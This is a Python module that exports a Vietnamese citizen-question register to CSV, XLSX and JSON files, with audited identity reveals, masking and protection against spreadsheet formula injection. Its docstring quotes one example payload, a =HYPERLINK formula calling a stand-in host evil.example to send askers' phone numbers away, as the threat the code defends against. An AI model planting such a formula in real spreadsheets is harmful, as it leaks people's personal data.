"""The register (sổ ghi chép) as files: CSV (UTF-8 with BOM, for Excel; headed by stable keys that
scripts rely on), XLSX (headed in Vietnamese, for the board's officers), JSON and JSON lines (raw
data for scripts). One column list for the spreadsheets, so the two always agree.

Every copy of the register leaves through `copy_register`, for the HTTP API, the console and the
command line alike:
- with identities (name, address, phone of every asker: personal data in bulk) it takes a stated
  reason, the reveal's rule, and is audited ("register_export") before a byte of it is handed out;
- masked as on the console ("Nguyễn V. A.", the district, the phone's last three digits) it needs
  neither: that is what every board member sees on screen anyway.

What citizens wrote may start with a spreadsheet formula (`=HYPERLINK("http://evil.example/?"&G2;…)`
would send other askers' phones away when an officer opens the file). Spreadsheet cells are written
as text: XLSX string cells (never a formula, marked to stay text when edited), and CSV cells that a
spreadsheet would read as a formula are prefixed with a single quote (OWASP, "CSV Injection").
JSON stays exactly as stored: it is data for programs, not a spreadsheet."""

from __future__ import annotations

import asyncio
import csv
import enum
import io
import json
import os
from dataclasses import dataclass
from datetime import UTC, datetime
from pathlib import Path
from typing import TYPE_CHECKING, Any

from . import audit
from .asker import Asker, AskerKind, NameShown
from .errors import Forbidden, ValidationError
from .roles import BOARD, Actor
from .workflow import reveal_reason

if TYPE_CHECKING:
    from .sessions import Session
    from .store import Store

AUDIT_ACTION = "register_export"


class Identities(enum.StrEnum):
    FULL = "full"  # names, addresses, phones: a reason, and an audit entry
    MASKED = "masked"  # as the console shows askers


COLUMNS: list[tuple[str, str]] = [
    # (key, Vietnamese heading)
    ("number", "STT"),
    ("receipt", "Mã tra cứu"),
    ("received_at", "Thời gian nhận"),
    ("asker_kind", "Loại người hỏi"),
    ("asker_name", "Họ tên / Tổ chức"),
    ("asker_address", "Địa chỉ"),
    ("asker_phone", "Điện thoại"),
    ("asker_email", "Thư điện tử"),  # optional; masked "a…@gmail.com" in the masked copy
    ("field", "Lĩnh vực"),
    ("text", "Nội dung câu hỏi"),
    ("text_on_air", "Nội dung hiển thị (đã biên tập)"),
    ("state", "Trạng thái"),
    ("decline_reason", "Lý do không chọn"),
    ("department", "Sở, ngành"),
    ("confirmed_by", "Cán bộ xác nhận"),
    ("channel", "Kênh gửi"),
    # officer intake: who received it, the register's "ký xác nhận của cán bộ tiếp nhận" (Điều 8.2):
    # the officer who entered it (phone, e-mail, letter, in person), else the one who accepted it
    ("received_by", "Cán bộ tiếp nhận"),
    ("consent_version", "Phiên bản đồng ý"),
    ("question_id", "Mã câu hỏi"),
]
# The masked copy names its two narrower columns differently, so that no script mistakes a district
# for an address or three digits for a phone number.
MASKED_COLUMNS: dict[str, tuple[str, str]] = {
    "asker_address": ("asker_area", "Quận, huyện"),
    "asker_phone": ("asker_phone_last3", "Điện thoại (3 số cuối)"),
}

# A cell starting with one of these is a formula to Excel and LibreOffice (after leading spaces
# too); tab and carriage return are OWASP's two others.
FORMULA_SIGNS = ("=", "+", "-", "@")
FORMULA_STARTS = ("\t", "\r")


def columns(identities: Identities = Identities.FULL) -> list[tuple[str, str]]:
    if identities is Identities.FULL:
        return COLUMNS
    return [MASKED_COLUMNS.get(key, (key, heading)) for key, heading in COLUMNS]


def read_as_formula(value: str) -> bool:
    return value.startswith(FORMULA_STARTS) or value.lstrip().startswith(FORMULA_SIGNS)


def flat(row: dict[str, Any], identities: Identities = Identities.FULL) -> list[Any]:
    values = {**row, **{f"asker_{key}": value for key, value in row["asker"].items()}}
    return [values.get(key) if values.get(key) is not None else "" for key, _ in columns(identities)]


def masked_row(row: dict[str, Any]) -> dict[str, Any]:
    """A register row with the asker as the console shows them (a protected asker, blanked by the
    store for all but the head, stays blank)."""
    a = row["asker"]
    asker = Asker(AskerKind(a["kind"]), a["name"], a["address"], a["phone"], NameShown(a["name_shown"]),
                  a.get("email"))
    return {**row, "asker": asker.masked()}


def _csv_cell(value: Any) -> Any:
    return "'" + value if isinstance(value, str) and read_as_formula(value) else value


def to_csv(rows: list[dict[str, Any]], *, bom: bool = True, identities: Identities = Identities.FULL) -> str:
    out = io.StringIO()
    if bom:
        out.write("\ufeff")  # Excel reads Vietnamese only with it
    writer = csv.writer(out)
    writer.writerow([key for key, _ in columns(identities)])  # stable keys: scripts read the CSV
    for row in rows:
        writer.writerow([_csv_cell(value) for value in flat(row, identities)])
    return out.getvalue()


def to_xlsx(rows: list[dict[str, Any]], title: str, *, identities: Identities = Identities.FULL) -> bytes:
    from openpyxl import Workbook
    from openpyxl.styles import Alignment, Font

    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.title = "So ghi chep"
    sheet.append([heading for _, heading in columns(identities)])
    for cell in sheet[1]:
        cell.font = Font(bold=True)
    for row in rows:
        # openpyxl refuses control characters; the store holds none (moderation/text.py)
        sheet.append(flat(row, identities))
        for cell in sheet[sheet.max_row]:
            if isinstance(cell.value, str):
                # openpyxl makes "=…" a formula and "#N/A" an error; what people wrote is text
                cell.data_type = "s"
                if read_as_formula(cell.value):
                    cell.quotePrefix = True  # and it stays text when an officer edits the cell
    sheet.freeze_panes = "A2"
    widths = {"text": 60, "text_on_air": 40, "asker_address": 30, "asker_name": 22, "received_at": 26}
    for i, (key, _) in enumerate(columns(identities)):
        letter = sheet.cell(row=1, column=i + 1).column_letter
        sheet.column_dimensions[letter].width = widths.get(key, 14)
        if key in ("text", "text_on_air"):
            for cell in sheet[letter][1:]:
                cell.alignment = Alignment(wrap_text=True, vertical="top")
    book.properties.title = title[:200]
    buf = io.BytesIO()
    book.save(buf)
    return buf.getvalue()


def to_jsonl(rows: list[dict[str, Any]]) -> str:
    return "".join(json.dumps(row, ensure_ascii=False) + "\n" for row in rows)


CONTENT_TYPES = {
    "csv": "text/csv; charset=utf-8",
    "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    "json": "application/json; charset=utf-8",
    "jsonl": "application/x-ndjson; charset=utf-8",
}


@dataclass(frozen=True)
class RegisterCopy:
    """One copy of a session's register, rendered, and (with identities) already audited."""

    session: Session
    identities: Identities
    fmt: str
    rows: list[dict[str, Any]]
    body: bytes
    made_at: datetime

    @property
    def filename(self) -> str:
        masked = "-che-danh-tinh" if self.identities is Identities.MASKED else ""
        return f"so-ghi-chep-phien-{self.session.id}-{self.made_at:%Y%m%d-%H%M}{masked}.{self.fmt}"

    @property
    def content_type(self) -> str:
        return CONTENT_TYPES[self.fmt]


def parse_identities(raw: Any) -> Identities:
    try:
        return Identities(raw)
    except ValueError:
        raise ValidationError("bad_identities", field="identities") from None


def render(rows: list[dict[str, Any]], fmt: str, session: Session, identities: Identities, *,
           bom: bool = True) -> bytes:
    if fmt == "csv":
        return to_csv(rows, bom=bom, identities=identities).encode()
    if fmt == "xlsx":
        return to_xlsx(rows, session.title, identities=identities)
    if fmt == "jsonl":
        return to_jsonl(rows).encode()
    if fmt == "json":
        body = {"session": session.staff_dict(), "identities": identities.value, "register": rows}
        return json.dumps(body, ensure_ascii=False).encode()
    raise ValueError(f"unknown register format {fmt!r}")  # the surfaces check their formats first


async def copy_register(store: Store, session_id: int, actor: Actor, *, fmt: str, identities: Any = Identities.FULL,
                        reason: Any = None, include_protected: bool | None = None, bom: bool = True) -> RegisterCopy:
    """The register of a session for `actor`, as a file in `fmt`. Checked before anything is read:
    the actor is on the board, `identities` is full or masked, and a full copy has a reason (5–300
    characters). A full copy is in the audit log (who, format, reason, rows, whether protected
    complainants were named) before it is returned. `include_protected`: name complainants moved to
    the formal channel (default: if the actor sees them, i.e. the head; the command line may ask)."""
    if actor.role not in BOARD:
        raise Forbidden("forbidden_action", field="action", action=AUDIT_ACTION, role=actor.role.value)
    chosen = parse_identities(identities)
    stated = reveal_reason(reason) if chosen is Identities.FULL else None
    if include_protected is None:
        include_protected = actor.sees_protected
    elif include_protected and not actor.sees_protected and actor.user_id is not None:
        # the command line itself holds the database file; a named officer is held to the role
        raise Forbidden("protected_identity", field="identities")
    session = await store.get_session(session_id)
    rows = await store.register(session.id, sees_protected=include_protected)
    if chosen is Identities.MASKED:
        rows = [masked_row(row) for row in rows]
    # openpyxl is pure Python: a large register is rendered off the event loop
    body = await asyncio.to_thread(render, rows, fmt, session, chosen, bom=bom)
    made_at = datetime.now(UTC)
    if chosen is Identities.FULL:
        async with store.write_engine.begin() as conn:
            await conn.run_sync(audit.append, actor, AUDIT_ACTION, made_at, session_id=session.id, format=fmt,
                                identities=chosen.value, reason=stated, rows=len(rows),
                                protected_included=include_protected and any(row["protected"] for row in rows))
    return RegisterCopy(session, chosen, fmt, rows, body, made_at)


def write_private(path: Path, body: bytes) -> None:
    """Write an export for its owner only (0600), also over an existing file that others could read."""
    fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o600)
    with os.fdopen(fd, "wb") as out:
        os.fchmod(fd, 0o600)
        out.write(body)
